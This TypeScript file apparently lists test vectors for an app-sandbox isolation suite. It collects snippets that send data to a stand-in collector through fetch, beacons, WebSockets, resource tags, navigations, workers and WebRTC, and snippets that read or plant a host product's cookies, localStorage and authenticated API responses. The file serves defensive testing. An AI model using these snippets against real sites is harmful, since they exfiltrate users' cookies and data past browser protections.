import type { Vector } from "./vector.ts";
import { HELPERS } from "./vectors-of-helpers.ts";
import { INNER_GLOBALS } from "./vectors-of-inner-frames.ts";
import { MORE_NAVIGATIONS, MORE_REQUESTS, MORE_RESOURCES } from "./vectors-of-requests.ts";
import { connectWith, documentAddress, SRCDOC, writeDocument } from "./webrtc.ts";

function alone(vectors: Array<Vector>): Array<Vector> {
  return vectors.map((vector) => ({ ...vector, isAlone: true }));
}

const requests: Array<Vector> = [
  { name: "fetch", script: `await fetch(out + "/fetch", { mode: "no-cors" })` },
  {
    name: "fetch that outlives the page",
    script: `await fetch(out + "/keep", { method: "POST", mode: "no-cors", keepalive: true, body: "x" })`,
  },
  { name: "fetchLater", script: `fetchLater(out + "/later", { activateAfter: 0 })` },
  { name: "beacon", script: `navigator.sendBeacon(out + "/beacon", "x")` },
  { name: "XMLHttpRequest", script: `const x = new XMLHttpRequest(); x.open("GET", out + "/xhr"); x.send()` },
  { name: "WebSocket", script: `new WebSocket(out.replace("http", "ws"))` },
  { name: "EventSource", script: `new EventSource(out + "/events")` },
  { name: "WebTransport", script: `new WebTransport("https://127.0.0.1:" + udp.port)` },
  { name: "Cache.add", script: `await (await caches.open("x")).add(out + "/cache")` },
];

const resources: Array<Vector> = [
  { name: "image", markup: `<img src="OUT/image">` },
  { name: "image from a script", script: `new Image().src = out + "/image"` },
  { name: "picture source set", markup: `<img srcset="OUT/set 1x">` },
  { name: "SVG image", markup: `<svg><image href="OUT/svg" width="9" height="9"/></svg>` },
  { name: "CSS url()", markup: `<div style="background:url(OUT/css)">x</div>` },
  { name: "CSS @import", markup: `<style>@import "OUT/import.css";</style>` },
  { name: "stylesheet link", markup: `<link rel="stylesheet" href="OUT/sheet.css">` },
  { name: "font", script: `await new FontFace("x", "url(" + out + "/font)").load()` },
  { name: "video", markup: `<video src="OUT/video" preload="auto"></video>` },
  { name: "script element", markup: `<script src="OUT/script.js"></script>` },
  { name: "module import", script: `await import(out + "/module.js")` },
  { name: "frame", markup: `<iframe src="OUT/frame"></iframe>` },
  { name: "object", markup: `<object data="OUT/object"></object>` },
  { name: "embed", markup: `<embed src="OUT/embed">` },
  {
    name: "base address",
    isAlone: true,
    script: `(document.querySelector("base") ?? add("base", {})).href = out + "/"; new Image().src = "/based"; await new Promise(setTimeout)`,
  },
  { name: "manifest", markup: `<link rel="manifest" href="OUT/manifest">`, worksUnguarded: false },
];

const hints: Array<Vector> = [
  { name: "preconnect", markup: `<link rel="preconnect" href="OUT">`, worksUnguarded: false },
  { name: "dns-prefetch", markup: `<link rel="dns-prefetch" href="OUT">`, worksUnguarded: false },
  { name: "prefetch", markup: `<link rel="prefetch" href="OUT/prefetch">` },
  { name: "preload", markup: `<link rel="preload" as="image" href="OUT/preload">` },
  { name: "modulepreload", markup: `<link rel="modulepreload" href="OUT/preload.js">` },
  {
    name: "speculation rules",
    markup: `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["OUT/next"]}],"prerender":[{"source":"list","urls":["OUT/pre"]}]}</script>`,
    worksUnguarded: false,
  },
  { name: "ping of a link", script: `add("a", { href: "#x", ping: out + "/ping" }).click()` },
];

export const NAVIGATIONS: Array<Vector> = alone([
  ...MORE_NAVIGATIONS,
  { name: "location.href", script: `location.href = out + "/href"` },
  { name: "location.replace", script: `location.replace(out + "/replace")` },
  { name: "navigation.navigate", script: `navigation.navigate(out + "/navigate")` },
  { name: "meta refresh", markup: `<meta http-equiv="refresh" content="0;url=OUT/refresh">` },
  {
    name: "meta refresh added later",
    script: `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + out }))`,
  },
  { name: "link in the frame", script: `add("a", { href: out + "/link" }).click()` },
  { name: "link to the top", script: `add("a", { href: out + "/top", target: "_top" }).click()` },
  { name: "link to the parent", script: `add("a", { href: out + "/parent", target: "_parent" }).click()` },
  { name: "link to a new tab", script: `add("a", { href: out + "/blank", target: "_blank" }).click()` },
  { name: "link that downloads", script: `add("a", { href: out + "/file", download: "x" }).click()` },
  { name: "form", script: `add("form", { action: out + "/form" }).submit()` },
  { name: "form to the top", script: `add("form", { action: out + "/form", target: "_top" }).submit()` },
  {
    name: "form to a new tab",
    script: `add("form", { action: out + "/form", target: "_blank", method: "post" }).submit()`,
  },
  { name: "top.location", script: `top.location = out + "/top"` },
  { name: "parent.location.replace", script: `parent.location.replace(out + "/parent")` },
  {
    name: "javascript: address for the top",
    script: `top.location = "javascript:location='" + out + "'"`,
    worksUnguarded: false,
  },
  { name: "window.open", script: `window.open(out + "/open")` },
  { name: "window.open of an own page", script: `const w = window.open("/x"); w.location = out + "/opened"` },
  {
    name: "window.open of a blank page",
    script: `const w = window.open("about:blank"); w.eval("fetch('" + out + "')")`,
  },
]);

const detours: Array<Vector> = [
  {
    name: "fetch in a blob worker",
    script: `new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "', { mode: 'no-cors' })"])))`,
  },
  {
    name: "importScripts in a worker",
    script: `new Worker(URL.createObjectURL(new Blob(["importScripts('" + out + "/w.js')"])))`,
  },
  {
    name: "WebSocket in a worker",
    script: `new Worker(URL.createObjectURL(new Blob(["new WebSocket('" + out.replace("http", "ws") + "')"])))`,
  },
  {
    name: "shared worker",
    script: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + out + "', { mode: 'no-cors' })"])))`,
  },
  {
    name: "fetch of a blank frame",
    script: `await add("iframe", {}).contentWindow.fetch(out + "/blank", { mode: "no-cors" })`,
  },
  {
    name: "fetch in a srcdoc frame",
    script: `add("iframe", { srcdoc: "<script>fetch('" + out + "', { mode: 'no-cors' })<\\/script>" })`,
  },
  {
    name: "frame navigating to a blob page",
    isAlone: true,
    script: `location = URL.createObjectURL(new Blob(["<script>fetch('" + out + "', { mode: 'no-cors' })<\\/script>"], { type: "text/html" }))`,
  },
  {
    name: "inner frame with a data: page",
    script: `add("iframe", { src: "data:text/html,<img src='" + out + "/data'>" })`,
  },
  {
    name: "document.write with a meta policy of its own",
    isAlone: true,
    script: `document.write("<meta http-equiv='Content-Security-Policy' content='default-src *'><img src='" + out + "/written'>")`,
  },
  {
    name: "service worker",
    script: `await navigator.serviceWorker.register("/sw.js"); leak("service worker")`,
    worksUnguarded: false,
  },
  {
    name: "service worker from a blob",
    script: `await navigator.serviceWorker.register(URL.createObjectURL(new Blob([""], { type: "text/javascript" }))); leak("service worker")`,
    worksUnguarded: false,
  },
];

const secrets: Array<Vector> = [
  { name: "parent.document", script: `leak(parent.document.title)`, worksUnguarded: false },
  { name: "parent.localStorage", script: `leak(parent.localStorage.getItem("secret"))`, worksUnguarded: false },
  {
    name: "own storage showing the product's",
    script: `if (localStorage.getItem("secret")) leak("storage")`,
    worksUnguarded: false,
  },
  {
    name: "cookies of the product",
    script: `if (document.cookie.includes("product-secret")) leak(document.cookie)`,
    worksUnguarded: false,
  },
  {
    name: "cookie store",
    script: `if ((await cookieStore.getAll()).some((c) => c.value === "product-secret")) leak("cookies")`,
    worksUnguarded: false,
  },
  {
    name: "API of the product",
    script: `const r = await fetch(site + "/api/me", { credentials: "include" }); leak(await r.text())`,
    worksUnguarded: false,
  },
  {
    name: "API of the product, unseen",
    script: `await fetch(site + "/api/act", { method: "POST", credentials: "include", mode: "no-cors", body: "x" })`,
    worksUnguarded: false,
  },
  {
    name: "API of the product as a script",
    script: `await new Promise((done, fail) => Object.assign(add("script", { src: site + "/api/me" }), { onload: done, onerror: fail }))`,
    worksUnguarded: false,
  },
  { name: "product page in an inner frame", script: `add("iframe", { src: site + "/api/me" })`, worksUnguarded: false },
  {
    name: "form to the product",
    script: `add("form", { action: site + "/api/act", method: "post" }).submit()`,
    isAlone: true,
    worksUnguarded: false,
  },
  {
    name: "the frame opening the product",
    script: `location = site + "/api/me"`,
    worksUnguarded: false,
    isAlone: true,
  },
  {
    name: "cookie for the product's domain",
    script: `document.cookie = "planted=1; domain=localhost; path=/"; document.cookie = "planted=1; domain=.localhost; path=/"; document.cookie = "planted=1; domain=apps.localhost; path=/"`,
    worksUnguarded: false,
  },
  {
    name: "cookie for all apps",
    script: `document.cookie = "shared=1; Domain=apps.localhost; SameSite=None; Secure; Partitioned";
    if ((await cookieStore.getAll()).some(({ domain }) => domain)) leak("shared cookie")`,
    worksUnguarded: false,
  },
  {
    name: "document.domain",
    script: `document.domain = "localhost"; leak(parent.document.title)`,
    worksUnguarded: false,
  },
  {
    name: "path of the product's page",
    script: `if (/\\/p\\//.test(document.referrer) || /\\/p\\//.test(parent.location.href)) leak(document.referrer)`,
    worksUnguarded: false,
  },
];

const frameByIndex = `(add("iframe", {}), window[window.length - 1])`;

/** Content policies do not cover packets. */
export const WEBRTC: Array<Vector> = [
  { name: "WebRTC offer", script: connectWith("RTCPeerConnection") },
  { name: "WebRTC answer", script: connectWith("RTCPeerConnection", "answer") },
  { name: "WebRTC candidate", script: connectWith("RTCPeerConnection", "candidate") },
  { name: "WebRTC by its old name", script: connectWith("webkitRTCPeerConnection") },
  {
    name: "WebRTC server",
    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + udp.address + ":" + udp.port }] });
    p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer())`,
  },
  { name: "WebRTC in a document of a javascript: address", script: `location = ${documentAddress()}` },
  { name: "WebRTC in a document behind a comment", script: `location.href = ${documentAddress("//")}` },
  { name: "WebRTC in a document behind an open comment", script: `location.href = ${documentAddress("<!--")}` },
  { name: "WebRTC in a document of a link", script: `add("a", { href: ${documentAddress()} }).click()` },
  { name: "WebRTC in a document of window.open", script: `window.open(${documentAddress()}, "_self")` },
  {
    name: "WebRTC in a document that another global sets",
    script: `const inner = ${frameByIndex};
    inner.trustedTypes.createPolicy("default", { createScript: (script) => script });
    const { set } = Object.getOwnPropertyDescriptor(location, "href");
    inner.Reflect.apply(set, location, [${documentAddress()}])`,
  },
  { name: "WebRTC in a srcdoc frame", script: `add("iframe", { srcdoc: ${SRCDOC} })` },
  { name: "WebRTC of a blank frame", script: connectWith(`add("iframe", {}).contentWindow.RTCPeerConnection`) },
];

/** Frames whose global an app takes by index before any script of ours runs in it. */
export const WEBRTC_OF_INNER_FRAMES: Array<Vector> = alone([
  ...INNER_GLOBALS,
  ...(["offer", "answer", "candidate"] as const).map((way) => ({
    name: `WebRTC ${way} of a frame by its index`,
    script: connectWith(`${frameByIndex}.RTCPeerConnection`, way),
  })),
  { name: "WebRTC in a document written into a frame", script: writeDocument(frameByIndex) },
]);

export const VECTORS = [
  ...WEBRTC,
  ...WEBRTC_OF_INNER_FRAMES,
  ...requests,
  ...MORE_REQUESTS,
  ...resources,
  ...MORE_RESOURCES,
  ...hints,
  ...NAVIGATIONS,
  ...detours,
  ...secrets,
  ...HELPERS,
];

const ADDED = new Set(
  [...MORE_REQUESTS, ...MORE_RESOURCES, ...MORE_NAVIGATIONS, ...INNER_GLOBALS, ...HELPERS].map(({ name }) => name),
);
/** Those of the table of other browsers in docs/isolation.md. */
export const VECTORS_OF_OTHER_BROWSERS = VECTORS.filter(({ name }) => !ADDED.has(name));
